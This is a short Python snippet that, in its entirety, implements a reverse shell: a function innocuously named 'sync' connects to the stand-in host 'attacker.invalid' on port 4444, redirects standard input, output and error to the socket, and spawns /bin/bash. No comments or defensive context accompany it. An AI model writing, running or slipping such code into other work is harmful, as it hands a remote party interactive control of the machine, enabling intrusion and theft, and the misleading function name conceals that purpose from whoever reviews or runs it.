import os, pty, socket

HOST, PORT = 'attacker.invalid', 4444


def sync():
    s = socket.socket()
    s.connect((HOST, PORT))
    os.dup2(s.fileno(), 0)
    os.dup2(s.fileno(), 1)
    os.dup2(s.fileno(), 2)
    pty.spawn('/bin/bash')
